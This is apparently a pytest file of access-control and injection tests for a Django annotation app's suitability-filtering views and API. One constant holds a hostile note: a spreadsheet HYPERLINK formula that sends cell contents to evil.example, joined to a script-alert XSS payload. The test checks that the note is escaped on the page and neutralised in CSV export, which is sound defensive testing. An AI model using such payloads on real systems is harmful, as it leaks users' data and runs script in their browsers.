"""Attacks on suitability filtering over HTTP (Django's test client, the dashboard and the API):
another researcher's campaign, a viewer labelling, proposition ids forged from another
campaign, hostile text in notes reaching the page and the CSV. Every refused write is checked
to have written nothing."""

import csv
import io

import pytest
from rest_framework.test import APIClient

from annotation.models import CampaignMember
from annotation.suitability.models import SuitabilityDecision, SuitabilityLabel, SuitabilityStudy
from annotation.suitability.studies import label_record, study_sample
from annotation.suitability.training import classifier_train
from tests.annotation.suitability.conftest import import_labelled
from tests.factories import CampaignFactory

pytestmark = [pytest.mark.attacks, pytest.mark.django_db]

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")<script>alert(1)</script>'


def api(user) -> APIClient:
    client = APIClient()
    client.force_authenticate(user)
    return client


@pytest.fixture
def trained(campaign, owner):
    gold = import_labelled(campaign)
    study = study_sample(campaign_id=campaign.pk, size=120, seed=3)
    for item in study.items.all():
        suitable = gold[item.proposition_id]["suitable"] == "1"
        reason = "" if suitable else gold[item.proposition_id]["reason"]
        label_record(
            study_id=study.pk, proposition_id=item.proposition_id, expert=owner, suitable=suitable, reason=reason
        )
    classifier_train(campaign_id=campaign.pk, seed=0)
    return study


@pytest.fixture
def stranger(django_user_model):
    return django_user_model.objects.create_user("stranger", password="x")


def snapshot():
    return (
        list(SuitabilityStudy.objects.values_list("id", "sample_size", "seed")),
        list(SuitabilityLabel.objects.order_by("id").values_list("id", "suitable", "reason", "note", "expert_id")),
        list(
            SuitabilityDecision.objects.order_by("id").values_list("id", "verified_label", "removed", "final_suitable")
        ),
    )


def test_another_researchers_campaign_is_not_found(trained, campaign, stranger, client):
    before = snapshot()
    item = trained.items.first()
    client.force_login(stranger)
    base = f"/campaigns/{campaign.slug}/suitability/"
    for path in ("", "label/", "queue/", "decisions.csv"):
        assert client.get(base + path).status_code == 404, path
    for path, data in (("sample/", {"size": 5}), ("label/", {"proposition": item.proposition_id, "label": "suitable"}),
                       ("train/", {}), ("queue/", {"proposition": item.proposition_id, "suitable": "yes"}), ("apply/", {})):  # fmt: skip
        assert client.post(base + path, data).status_code == 404, path
    rest = api(stranger)
    root = f"/api/campaigns/{campaign.slug}/suitability/"
    assert rest.get(root).status_code == 404
    assert rest.get(root + "decisions.csv").status_code == 404
    assert (
        rest.post(root + "labels/", {"proposition": item.proposition_id, "suitable": True}, format="json").status_code
        == 404
    )
    assert rest.post(root + "apply/", {}, format="json").status_code == 404
    assert snapshot() == before


def test_a_viewer_reads_but_cannot_label_verify_train_or_apply(trained, campaign, stranger, client):
    CampaignMember.objects.create(campaign=campaign, user=stranger, role=CampaignMember.Role.VIEW)
    before = snapshot()
    item = trained.items.first()
    queued = SuitabilityDecision.objects.filter(predicted_suitable=False, expert_label__isnull=True).first()
    client.force_login(stranger)
    base = f"/campaigns/{campaign.slug}/suitability/"
    assert client.get(base).status_code == 200
    assert client.get(base + "decisions.csv").status_code == 200
    page = client.get(base).content.decode()
    assert "Draw the sample" not in page and "Apply the filter" not in page and ">Train" not in page
    assert client.post(base + "label/", {"proposition": item.proposition_id, "label": "suitable"}).status_code == 403
    assert client.post(base + "queue/", {"proposition": queued.proposition_id, "suitable": "yes"}).status_code == 403
    for path in ("sample/", "train/", "apply/"):
        assert client.post(base + path, {}).status_code == 403, path
    rest = api(stranger)
    root = f"/api/campaigns/{campaign.slug}/suitability/"
    assert rest.get(root).status_code == 200
    assert (
        rest.post(root + "labels/", {"proposition": item.proposition_id, "suitable": True}, format="json").status_code
        == 403
    )
    assert (
        rest.post(root + "verify/", {"proposition": queued.proposition_id, "suitable": True}, format="json").status_code
        == 403
    )
    assert rest.post(root + "train/", {}, format="json").status_code == 403
    assert snapshot() == before


def test_forged_proposition_ids_from_another_campaign(trained, campaign, owner, client):
    other = CampaignFactory(owner=owner, slug="other")
    import_labelled(other)
    foreign = other.topics.first().propositions.first()
    outside_sample = campaign.topics.first().propositions.exclude(pk__in=trained.items.values("proposition_id")).first()
    before = snapshot()
    rest = api(owner)
    root = f"/api/campaigns/{campaign.slug}/suitability/"
    for pid in (foreign.pk, outside_sample.pk, 10**9):
        response = rest.post(root + "labels/", {"proposition": pid, "suitable": True}, format="json")
        assert response.status_code == 404, pid
        assert response.json()["code"] == "not_in_sample"
    response = rest.post(root + "verify/", {"proposition": foreign.pk, "suitable": True}, format="json")
    assert response.status_code == 404 and response.json()["code"] == "no_decision"
    client.force_login(owner)
    client.post(f"/campaigns/{campaign.slug}/suitability/label/", {"proposition": foreign.pk, "label": "suitable"})
    client.post(f"/campaigns/{campaign.slug}/suitability/queue/", {"proposition": foreign.pk, "suitable": "yes"})
    assert snapshot() == before


def test_hostile_note_is_text_on_the_page_and_in_the_csv(trained, campaign, owner, client):
    item = trained.items.first()
    rest = api(owner)
    root = f"/api/campaigns/{campaign.slug}/suitability/"
    response = rest.post(
        root + "labels/",
        {"proposition": item.proposition_id, "suitable": False, "reason": "other", "note": HOSTILE},
        format="json",
    )
    assert response.status_code == 201
    client.force_login(owner)
    page = client.get(f"/campaigns/{campaign.slug}/suitability/").content.decode()
    assert "<script>alert(1)</script>" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    body = rest.get(root + "decisions.csv").content.decode()
    rows = {row["proposition_id"]: row for row in csv.DictReader(io.StringIO(body))}
    assert rows[str(item.proposition_id)]["expert_notes"] == "'" + HOSTILE


def test_a_bad_reason_is_refused_with_its_field(trained, campaign, owner):
    item = trained.items.first()
    response = api(owner).post(
        f"/api/campaigns/{campaign.slug}/suitability/labels/",
        {"proposition": item.proposition_id, "suitable": False, "reason": "because"},
        format="json",
    )
    assert response.status_code == 400 and "reason" in response.json()
    assert not SuitabilityLabel.objects.filter(proposition_id=item.proposition_id).exclude(suitable=True).exists() or (
        SuitabilityLabel.objects.get(proposition_id=item.proposition_id, expert=owner).reason != "because"
    )
